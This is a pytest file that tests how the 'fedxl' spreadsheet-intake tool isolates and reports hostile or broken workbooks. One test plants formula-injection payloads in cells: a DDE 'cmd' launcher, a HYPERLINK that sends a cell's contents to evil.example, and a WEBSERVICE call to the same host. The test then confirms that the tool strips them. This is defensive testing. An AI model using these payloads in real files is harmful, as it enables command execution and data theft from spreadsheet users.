"""Nothing a town sends can bring fedxl down: files are read in limited workers, a file that kills
its worker is that file's finding, and the batch, the morning job and the intake go on."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest
from hostile_files import DATA, GOOD, lying_dimension, rows_without_r  # noqa: E402

from fedxl import isolation
from fedxl.checking import CheckContext, check_file
from fedxl.submissions import ingest
from fedxl.workspace import Workspace
from fedxl.workspace.limits import Limits

pytestmark = pytest.mark.skipif(
    sys.platform != "linux", reason="the worker limits are measured on Linux"
)


def _cli(workspace: Path, *args: str, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "fedxl", *args, "-w", str(workspace)],
        capture_output=True,
        text=True,
        timeout=timeout,
    )


@pytest.mark.parametrize(
    "make", [lying_dimension, rows_without_r], ids=["lying-dimension", "rows-without-r"]
)
def test_check_answers_with_a_finding_never_an_abort(workspace: Path, tmp_path: Path, make) -> None:  # type: ignore[no-untyped-def]
    path = make(tmp_path)
    assert path.stat().st_size < 100_000
    started = time.monotonic()
    proc = _cli(workspace, "check", str(path), str(GOOD), "--json")
    assert proc.returncode == 2, proc.stderr
    assert time.monotonic() - started < 20
    files = json.loads(proc.stdout)["files"]
    assert [f["status"] for f in files] == ["unreadable", "accepted"]
    far = [f for f in files[0]["findings"] if f["code"] == "file-too-large"]
    # the cell to clear is named, found by walking the cells
    assert far and "1048576" in far[0]["message"]
    assert "memory allocation" not in proc.stderr and "Traceback" not in proc.stderr


def test_a_worker_that_dies_is_one_files_finding(workspace: Path, tmp_path: Path) -> None:
    ws = Workspace(workspace)
    ctx = CheckContext(ws.form, ws.config, limits=Limits(max_memory_mb=1024))
    report = check_file(lying_dimension(tmp_path), ctx)
    assert report.reader_failed == "crashed" and report.status == "unreadable" and report.sha256
    assert [f.code for f in report.findings] == ["file-too-large"]
    assert check_file(GOOD, ctx).status == "accepted"  # the next file gets a fresh worker


def _abort() -> None:
    os.abort()


def _allocate() -> bytes:
    return b"x" * (4 * 1024**3)


def _spin() -> None:
    while True:
        pass


def _fail() -> None:
    raise KeyError("the caller sees this")


def _sleep() -> None:
    time.sleep(3600)


def test_worker_failures_are_named() -> None:
    limits = Limits(max_memory_mb=512, max_seconds=1)
    for fn, reason in ((_abort, "crashed"), (_allocate, "memory"), (_spin, "time")):
        with pytest.raises(isolation.WorkerFailed) as failed:
            isolation.run(fn, limits=limits)
        assert failed.value.reason == reason, fn
    with pytest.raises(KeyError):
        isolation.run(_fail, limits=limits)
    assert isolation.run(len, "abc", limits=limits) == 3


def test_a_worker_that_hangs_is_stopped(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(isolation, "_wall_seconds", lambda limits: 1.0)
    started = time.monotonic()
    with pytest.raises(isolation.WorkerFailed) as failed:
        isolation.run(_sleep, limits=Limits())
    assert failed.value.reason == "time" and time.monotonic() - started < 15


def _ledgers(ws: Workspace, folder: Path) -> list[Path]:
    from fedxl.jobs.samples import town_ledger, write_plain_ledger

    out = []
    for seed, town in enumerate(
        ["头道桥街道", "二道河街道", "新华街道", "站前街道", "振兴街道"], start=1
    ):
        data = town_ledger(ws.form, town, 2026, 6, seed=seed, orgs=4, events=3)
        path = folder / f"{town}6月.xlsx"
        write_plain_ledger(ws.form, data, path)
        out.append(path)
    return out


@pytest.mark.parametrize("workers", [1, 2])
def test_the_morning_job_records_the_good_files_and_quarantines_the_poison(
    workspace: Path, tmp_path: Path, run, workers: int
) -> None:  # type: ignore[no-untyped-def]
    from fedxl.jobs.run import run_job
    from fedxl.store import Store

    ws = Workspace(workspace)
    inbox = ws.folder("inbox")
    good = _ledgers(ws, tmp_path)
    for i, path in enumerate(good):
        shutil.copy(path, inbox / path.name)
        if i == 2:
            lying_dimension(inbox, "兴隆镇6月.xlsx")
    result = run_job(ws, workers=workers)
    codes = {Path(r.report.file).name: r.report.status for r in result.batch.results}
    assert codes.pop("兴隆镇6月.xlsx") == "unreadable"
    assert set(codes.values()) == {"accepted"} and len(codes) == 5
    assert not any(r.duplicate for r in result.batch.results)
    with Store(ws.db_path, ws.form) as store:
        assert len(store.submissions()) == 6  # the poison too, as a failed attempt
    aside = inbox / "_未处理"
    assert sorted(p.name for p in aside.iterdir()) == ["兴隆镇6月.xlsx", "兴隆镇6月.xlsx.原因.txt"]
    assert "XFD1048576" in (aside / "兴隆镇6月.xlsx.原因.txt").read_text(encoding="utf-8-sig")
    assert [p.name for p in inbox.iterdir()] == ["_未处理"]
    log = (ws.workbooks / "fedxl.log").read_text(encoding="utf-8").splitlines()
    assert len(log) == 1 and "返回码 2" in log[0] and "_未处理" in log[0]
    # the same bytes again: known, never read again
    shutil.copy(aside / "兴隆镇6月.xlsx", inbox / "again.xlsx")
    again = run_job(ws, workers=workers)
    assert [r.duplicate for r in again.batch.results] == [True]


def test_the_poison_alone_leaves_a_log_line(workspace: Path) -> None:
    ws = Workspace(workspace)
    lying_dimension(ws.folder("inbox"))
    proc = _cli(workspace, "run")
    assert proc.returncode == 2, proc.stderr
    log = (ws.workbooks / "fedxl.log").read_text(encoding="utf-8").splitlines()
    assert len(log) == 1 and "返回码 2" in log[0]


@pytest.mark.parametrize("where", [1, 3, 5])
def test_ingest_api_goes_on_after_a_worker_dies(
    workspace: Path, tmp_path: Path, where: int
) -> None:
    """Whichever files the other worker finished before the pool broke are reported as recorded
    (not as vanished from the inbox, not as duplicates)."""
    ws = Workspace(workspace)
    inbox = ws.folder("inbox")
    for path in _ledgers(ws, tmp_path):
        shutil.copy(path, inbox / path.name)
    poisoned = rows_without_r(tmp_path)
    order = sorted(inbox.iterdir())
    for i, path in enumerate(order):  # the inbox is taken oldest first
        os.utime(path, (1_700_000_000 + i * 10, 1_700_000_000 + i * 10))
    shutil.copy(poisoned, inbox / poisoned.name)
    os.utime(inbox / poisoned.name, (1_700_000_000 + where * 10 - 5,) * 2)
    batch = ingest(ws, workers=2)
    statuses = [r.report.status for r in batch.results]
    assert statuses.count("accepted") == 5 and statuses[where] == "unreadable", statuses
    assert all(r.submission_id for r in batch.results) and not any(
        r.duplicate for r in batch.results
    )
    assert [p.name for p in inbox.iterdir()] == ["_未处理"]


def test_a_feedback_that_cannot_be_made_is_a_finding(workspace: Path, tmp_path: Path, run) -> None:  # type: ignore[no-untyped-def]
    from fedxl.store import Store
    from fedxl.submissions.feedback import feedback_bytes, has_feedback

    pivots = DATA / "external" / "pivots.xlsx"  # calamine's test file: openpyxl cannot open it
    checked = run("check", str(pivots), str(GOOD), "--annotate", "--json", "-w", str(workspace))
    files = checked.json()["files"]
    assert [f["status"] for f in files] == [
        "rejected",
        "accepted",
    ]  # the batch went on, stdout is JSON
    assert [f["code"] for f in files[0]["findings"]] == ["form-unknown", "feedback-failed"]
    ws = Workspace(workspace)
    batch = ingest(ws, [pivots])
    assert "feedback-failed" in [f.code for f in batch.results[0].report.findings]
    with Store(ws.db_path, ws.form) as store:
        sub = store.get(batch.results[0].submission_id)
    assert sub is not None and not has_feedback(ws, sub)  # no download offered
    assert feedback_bytes(ws, sub) is None


def test_the_intake_survives_the_poison_and_restarts_at_once(tmp_path: Path) -> None:
    pytest.importorskip("starlette")
    pytest.importorskip("uvicorn")
    httpx = pytest.importorskip("httpx")
    from conftest import intake_workspace, start_server, stop_server

    root = intake_workspace(tmp_path / "ws", uploads_per_minute=1000)
    ws = Workspace(root)
    good = _ledgers(ws, tmp_path)[0]  # 头道桥街道
    server = start_server(root)
    token = server.token("头道桥街道")
    auth = {"Authorization": f"Bearer {token}"}

    def send(path: Path):  # type: ignore[no-untyped-def]
        with open(path, "rb") as fh:
            return httpx.post(
                server.base + "/api/submissions",
                headers=auth,
                timeout=60,
                files={"file": (path.name, fh, "application/octet-stream")},
            )

    try:
        bad = send(lying_dimension(tmp_path))
        assert bad.status_code == 200, bad.text
        assert (
            bad.json()["files"][0]["status"] == "unreadable"
            and "feedback_url" not in bad.json()["files"][0]
        )
        ok = send(good)
        assert ok.status_code == 200 and ok.json()["files"][0]["status"] == "accepted"
        odd = send(DATA / "external" / "pivots.xlsx")  # findings, but no marked copy can be made
        assert odd.status_code == 200 and "feedback_url" not in odd.json()["files"][0]
        sid = odd.json()["files"][0]["submission_id"]
        page = httpx.get(f"{server.base}/t/{token}/feedback/{sid}", timeout=30)
        assert page.status_code == 404 and "text/html" in page.headers["content-type"]
        assert httpx.get(server.base + "/healthz", timeout=5).status_code == 200
    finally:
        stop_server(server)
    started = time.monotonic()
    again = start_server(root)  # nothing is left to take in at start-up: up at once
    try:
        assert time.monotonic() - started < 20
        assert not list((ws.workbooks / "uploads").glob("*.upload"))
        from fedxl.store import Store

        with Store(ws.db_path, ws.form) as store:
            states = sorted(s.status for s in store.submissions())
        assert states == ["accepted", "rejected", "unreadable"]
    finally:
        stop_server(again)


def test_a_name_of_sixty_emoji_is_recorded_under_a_bounded_path(
    workspace: Path, tmp_path: Path
) -> None:
    from fedxl.checking import Origin
    from fedxl.store import Store

    ws = Workspace(workspace)
    name = "😀" * 60 + ".xlsx"  # 245 bytes: the archive's prefix would take it over ext4's 255
    ledgers = _ledgers(ws, tmp_path)
    dropped = ws.folder("inbox") / name
    shutil.copy(ledgers[0], dropped)
    uploaded = tmp_path / "x.upload"
    shutil.copy(ledgers[1], uploaded)
    batch = ingest(
        ws, [dropped, uploaded], origins={uploaded: Origin("🙂" * 60 + ".xls", "二道河街道")}
    )
    assert [r.report.status for r in batch.results] == ["accepted", "accepted"]
    with Store(ws.db_path, ws.form) as store:
        subs = store.submissions()
    assert [s.original_name for s in subs] == [name, "🙂" * 60 + ".xls"]  # shown to people as sent
    for sub in subs:
        archived = ws.root / sub.archive_path
        assert archived.is_file() and len(archived.name.encode()) <= 200
    assert not dropped.exists()


def test_feedback_copies_keep_no_live_external_formula(workspace: Path, tmp_path: Path) -> None:
    import openpyxl

    from fedxl.feedback import write_feedback_file

    wb = openpyxl.load_workbook(GOOD)
    roster = wb["妇委会名录"]
    roster["R3"] = "=cmd|' /C calc'!A0"
    roster["R4"] = '=HYPERLINK("http://evil.example/?"&B3,"点这里")'
    roster["R5"] = "=SUM(G3:G4)"
    wb.create_sheet("说明")["A1"] = '=WEBSERVICE("http://evil.example/")'
    source = tmp_path / "dde.xlsx"
    wb.save(source)
    ws = Workspace(workspace)
    report = check_file(source, CheckContext(ws.form, ws.config))
    said = {f.cell for f in report.findings if f.code == "normalized" and f.sheet == "妇委会名录"}
    assert {"R3", "R4"} <= said and "R5" not in said
    out = write_feedback_file(source, report, tmp_path / "fb.xlsx")
    copy = openpyxl.load_workbook(out)
    formulas = [
        c.value
        for sheet in copy.worksheets
        for row in sheet.iter_rows()
        for c in row
        if c.data_type == "f"
    ]
    assert formulas == ["=SUM(G3:G4)"]  # the town's own formula stays
    assert copy["妇委会名录"]["R3"].data_type != "f" and copy["说明"]["A1"].data_type != "f"


def test_the_hostile_set_gets_clear_findings(workspace: Path, tmp_path: Path) -> None:
    """Each file of the hostile set (bench/run.py --hostile measures their time and memory): one
    check --annotate --json run, valid JSON for all, the batch's good file accepted."""
    from hostile_files import SET

    files = [make(tmp_path) for make in SET.values()]
    proc = _cli(
        workspace, "check", "--annotate", "--json", *map(str, files), str(GOOD), timeout=240
    )
    assert proc.returncode == 2 and "Traceback" not in proc.stderr, proc.stderr
    out = json.loads(proc.stdout)["files"]
    codes = [{f["code"] for f in one["findings"] if f["severity"] != "warning"} for one in out]
    expected = [
        "file-too-large",
        "file-too-large",
        "file-too-large",
        "file-too-large",
        "feedback-failed",
        "file-too-large",
    ]
    assert [code in got for code, got in zip(expected, codes, strict=False)] == [True] * len(
        expected
    ), codes
    assert out[-1]["status"] == "accepted"
    reasons = [
        f["message"]
        for f in out[3]["findings"] + out[2]["findings"]
        if f["code"] == "file-too-large"
    ]
    assert any("600000" in r for r in reasons) and any("32767" in r for r in reasons)


def test_a_failed_intake_batch_is_tried_again_without_a_restart(
    workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    pytest.importorskip("starlette")
    from fedxl.checking import Origin
    from fedxl.store import Store
    from fedxl.web import intake

    ws = Workspace(workspace)
    monkeypatch.setattr(intake, "RETRY_SECONDS", (0.2,))
    # the archive cannot be written, once
    monkeypatch.setenv("FEDXL_FAULT", "before_archive:1:oserror")
    monkeypatch.setenv("FEDXL_FAULT_ONCE", str(tmp_path / "fired"))
    folder = intake.uploads_folder(ws)
    upload = folder / "abc.upload"
    shutil.copy(_ledgers(ws, tmp_path)[0], upload)
    intake.note_origin(upload, Origin("头道桥6月.xlsx", "头道桥街道"))
    queue = intake.IntakeQueue(ws, workers=1)
    try:
        with pytest.raises(OSError):
            queue.submit(upload, Origin("头道桥6月.xlsx", "头道桥街道")).result(timeout=60)
        deadline = time.monotonic() + 60
        while upload.exists() and time.monotonic() < deadline:
            time.sleep(0.1)
        with Store(ws.db_path, ws.form) as store:
            assert [s.original_name for s in store.submissions()] == ["头道桥6月.xlsx"]
    finally:
        queue.close()


def test_an_upload_the_server_stopped_on_three_times_is_set_aside(
    workspace: Path, tmp_path: Path
) -> None:
    pytest.importorskip("starlette")
    from fedxl.checking import Origin
    from fedxl.web import intake

    ws = Workspace(workspace)
    folder = intake.uploads_folder(ws)
    stuck, fresh = folder / "stuck.upload", folder / "fresh.upload"
    for path in (stuck, fresh):
        shutil.copy(GOOD, path)
        intake.note_origin(path, Origin(f"{path.stem}.xlsx", "兴隆镇"))
    for _ in range(intake.MAX_ATTEMPTS):
        intake.count_attempt(stuck)
    intake.count_attempt(fresh)
    assert [p.name for p, _ in intake.left_over(ws)] == ["fresh.upload"]
    aside = folder / intake.UNPROCESSED
    assert sorted(p.name for p in aside.iterdir()) == [
        "stuck.json",
        "stuck.upload",
        "stuck.原因.txt",
    ]
    assert "stuck.xlsx" in (aside / "stuck.原因.txt").read_text(encoding="utf-8-sig")


def test_a_worker_ends_with_the_process_that_started_it(workspace: Path, tmp_path: Path) -> None:
    """The caller killed (kill -9, a crash) mid-batch: its reader worker does not linger."""
    from fedxl.files.procs import pid_alive

    inbox = Workspace(workspace).folder("inbox")
    shutil.copy(GOOD, inbox / "a.xlsx")
    env = {
        **os.environ,
        "FEDXL_FAULT": "before_archive:1",
    }  # the caller dies after the worker checked
    proc = subprocess.run(
        [sys.executable, "-m", "fedxl", "ingest", "-w", str(workspace), "--workers", "1"],
        capture_output=True,
        text=True,
        env=env,
        timeout=60,
    )
    assert proc.returncode == 137
    readers = [
        int(p)
        for p in subprocess.run(
            ["pgrep", "-f", f"fedxl ingest -w {workspace}"], capture_output=True, text=True
        ).stdout.split()
    ]
    deadline = time.monotonic() + 20
    while any(pid_alive(p) for p in readers) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not any(pid_alive(p) for p in readers)
